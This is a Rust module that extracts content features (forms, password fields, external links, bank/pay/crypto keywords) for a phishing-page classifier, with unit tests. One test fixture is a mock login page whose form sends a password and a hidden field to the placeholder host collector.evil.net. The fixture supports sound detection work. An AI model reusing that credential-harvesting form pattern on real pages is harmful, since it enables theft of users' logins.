//! Content Features - slots 22..50 of the full layout
//!
//! When markup is missing or shorter than the minimum length, behavioural
//! risk signals (social links, external form posts, copyright, empty
//! anchors) stay at 0. The presentation flags (title, favicon, description)
//! are always 1, matching the vectors the model was trained on.

use once_cell::sync::Lazy;
use regex::Regex;

use super::markup::Document;

/// Line count assumed when no markup is available
pub const DEFAULT_LINE_COUNT: f64 = 100.0;

/// Longest line assumed when no markup is available
pub const DEFAULT_LARGEST_LINE: f64 = 500.0;

/// Number of content slots
pub const CONTENT_FEATURE_COUNT: usize = 28;

static SOCIAL_NET: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"facebook|twitter|instagram|linkedin").expect("valid social regex")
});
static BANK: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)bank|banking").expect("valid bank regex"));
static PAY: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)pay|payment").expect("valid pay regex"));
static CRYPTO: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)crypto|bitcoin").expect("valid crypto regex"));
static COPYRIGHT: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)copyright|©").expect("valid copyright regex"));

/// Page markup plus the URL context the content features compare against
pub struct ContentInput<'a> {
    pub html: &'a str,
    /// Lower-cased hostname of the sanitized URL
    pub hostname: &'a str,
    /// URL exactly as supplied by the caller
    pub raw_url: &'a str,
    pub min_len: usize,
}

impl ContentInput<'_> {
    /// Markup long enough to trust structural checks
    pub fn has_content(&self) -> bool {
        self.html.chars().count() > self.min_len
    }
}

/// Value of the title/favicon/description slots for every page
const PRESENTATION_FLAG: f64 = 1.0;

fn flag(value: bool) -> f64 {
    if value {
        1.0
    } else {
        0.0
    }
}

/// Compute the 28 content features in layout order
pub fn extract_content(input: &ContentInput<'_>) -> Vec<f64> {
    let html = input.html;
    let has_content = input.has_content();
    let doc = Document::parse(html);
    let lower = html.to_lowercase();
    let host = input.hostname;

    let mut features = Vec::with_capacity(CONTENT_FEATURE_COUNT);

    // LineOfCode / LargestLineLength
    if html.is_empty() {
        features.push(DEFAULT_LINE_COUNT);
        features.push(DEFAULT_LARGEST_LINE);
    } else {
        features.push(html.split('\n').count() as f64);
        features.push(
            html.split('\n')
                .map(|l| l.chars().count())
                .max()
                .unwrap_or(0) as f64,
        );
    }

    // HasTitle
    features.push(PRESENTATION_FLAG);

    // DomainTitleMatchScore
    let title = doc.title().to_lowercase();
    features.push(if domain_matches_title(host, &title) { 100.0 } else { 0.0 });

    // URLTitleMatchScore
    features.push(if title.contains(input.raw_url) { 100.0 } else { 0.0 });

    // HasFavicon
    features.push(PRESENTATION_FLAG);

    // Robots
    features.push(flag(lower.contains("robots")));

    // IsResponsive
    features.push(flag(
        doc.any("meta", |t| t.attr_is("name", "viewport")) || html.contains("@media"),
    ));

    // NoOfURLRedirect / NoOfSelfRedirect: not observable client-side
    features.push(0.0);
    features.push(0.0);

    // HasDescription
    features.push(PRESENTATION_FLAG);

    // NoOfPopup
    features.push(lower.matches("window.open").count() as f64);

    // NoOfiFrame
    features.push(doc.count("iframe") as f64);

    // HasExternalFormSubmit
    features.push(flag(
        has_content
            && doc.any("form", |t| {
                t.attr("action")
                    .map(|a| a.starts_with("http") && !a.contains(host))
                    .unwrap_or(false)
            }),
    ));

    // HasSocialNet
    features.push(flag(SOCIAL_NET.is_match(&lower)));

    // HasSubmitButton
    features.push(flag(
        doc.any("input", |t| t.attr_is("type", "submit"))
            || doc.any("button", |t| t.attr_is("type", "submit")),
    ));

    // HasHiddenFields / HasPasswordField
    features.push(flag(doc.any("input", |t| t.attr_is("type", "hidden"))));
    features.push(flag(doc.any("input", |t| t.attr_is("type", "password"))));

    // Bank / Pay / Crypto keywords
    features.push(flag(BANK.is_match(html)));
    features.push(flag(PAY.is_match(html)));
    features.push(flag(CRYPTO.is_match(html)));

    // HasCopyrightInfo
    features.push(flag(COPYRIGHT.is_match(html)));

    // NoOfImage / NoOfCSS / NoOfJS
    features.push(doc.count("img") as f64);
    features.push(
        (doc.count_where("link", |t| t.attr_is("rel", "stylesheet")) + doc.count("style")) as f64,
    );
    features.push(doc.count("script") as f64);

    // NoOfSelfRef
    features.push(doc.count_where("a", |t| {
        let href = t.attr("href").unwrap_or("");
        (!host.is_empty() && href.contains(host)) || href.starts_with('/') || href.starts_with('#')
    }) as f64);

    // NoOfEmptyRef
    let empty_refs = if has_content {
        doc.count_where("a", |t| {
            matches!(t.attr("href").unwrap_or(""), "" | "#" | "javascript:void(0)")
        })
    } else {
        0
    };
    features.push(empty_refs as f64);

    // NoOfExternalRef
    features.push(doc.count_where("a", |t| {
        let href = t.attr("href").unwrap_or("");
        href.starts_with("http") && (host.is_empty() || !href.contains(host))
    }) as f64);

    features
}

/// First hostname label (after dropping `www.`) against the page title.
///
/// An empty title counts as a match because every label "contains" the
/// empty first word. Kept as is so scoring sees the same vectors the
/// model was trained on.
pub fn domain_matches_title(host: &str, title_lower: &str) -> bool {
    let domain = host.replacen("www.", "", 1);
    let label = domain.split('.').next().unwrap_or("");
    let first_word = title_lower.split(' ').next().unwrap_or("");

    title_lower.contains(label) || label.contains(first_word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn input<'a>(html: &'a str) -> ContentInput<'a> {
        ContentInput {
            html,
            hostname: "www.example.com",
            raw_url: "https://www.example.com/",
            min_len: 100,
        }
    }

    #[test]
    fn test_absent_content_defaults() {
        let f = extract_content(&input(""));
        assert_eq!(f.len(), CONTENT_FEATURE_COUNT);
        assert_eq!(f[0], DEFAULT_LINE_COUNT);
        assert_eq!(f[1], DEFAULT_LARGEST_LINE);
        // presentation signals assumed present
        assert_eq!(f[2], 1.0);
        assert_eq!(f[5], 1.0);
        assert_eq!(f[10], 1.0);
        // behavioural signals assumed absent
        assert_eq!(f[13], 0.0);
        assert_eq!(f[14], 0.0);
        assert_eq!(f[21], 0.0);
        assert_eq!(f[26], 0.0);
    }

    #[test]
    fn test_real_content() {
        let html = r##"<html><head><title>Example Login</title>
<meta name="viewport" content="width=device-width">
<link rel="stylesheet" href="/s.css"><style>p{}</style>
</head><body>
<form action="https://collector.evil.net/post"><input type="hidden" name="t">
<input type="password" name="p"><button type="submit">Go</button></form>
<a href="/home">home</a><a href="#">x</a><a href="https://other.org/">o</a>
<script>window.open('x')</script><img src="a.png">
<p>Copyright 2024. Follow us on twitter. Pay with your bank.</p>
</body></html>"##;
        let f = extract_content(&input(html));

        assert_eq!(f[2], 1.0, "title present");
        assert_eq!(f[3], 100.0, "title mentions example");
        assert_eq!(f[5], 1.0, "favicon slot is constant");
        assert_eq!(f[7], 1.0, "viewport meta");
        assert_eq!(f[10], 1.0, "description slot is constant");
        assert_eq!(f[11], 1.0, "one popup");
        assert_eq!(f[13], 1.0, "external form");
        assert_eq!(f[14], 1.0, "social mention");
        assert_eq!(f[15], 1.0, "submit button");
        assert_eq!(f[16], 1.0, "hidden field");
        assert_eq!(f[17], 1.0, "password field");
        assert_eq!(f[18], 1.0, "bank keyword");
        assert_eq!(f[19], 1.0, "pay keyword");
        assert_eq!(f[20], 0.0, "no crypto keyword");
        assert_eq!(f[21], 1.0, "copyright");
        assert_eq!(f[22], 1.0, "one image");
        assert_eq!(f[23], 2.0, "stylesheet + style");
        assert_eq!(f[24], 1.0, "one script");
        assert_eq!(f[25], 2.0, "self refs: /home and #");
        assert_eq!(f[26], 1.0, "empty ref: #");
        assert_eq!(f[27], 1.0, "external ref");
    }

    #[test]
    fn test_presentation_flags_ignore_markup() {
        let bare = format!("<html><body>{}</body></html>", "<p>plain text</p>".repeat(20));
        let f = extract_content(&input(&bare));
        assert!(input(&bare).has_content());
        assert_eq!(f[2], 1.0);
        assert_eq!(f[5], 1.0);
        assert_eq!(f[10], 1.0);
        // empty title still matches the domain label
        assert_eq!(f[3], 100.0);
    }

    #[test]
    fn test_domain_title_match() {
        assert!(domain_matches_title("www.paypal.com", "paypal: log in"));
        assert!(!domain_matches_title("paypa1-secure.xyz", "paypal: log in"));
        assert!(domain_matches_title("anything.com", ""));
    }
}
